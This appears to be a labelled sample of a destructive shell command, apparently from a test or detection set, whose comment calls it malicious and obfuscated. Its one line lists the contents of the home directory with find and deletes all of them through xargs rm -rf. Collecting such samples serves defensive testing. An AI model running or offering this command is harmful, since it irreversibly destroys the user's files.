# Malicious, obfuscated: the home directory's contents listed by find and deleted through xargs rm -rf.
find "$HOME" -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf
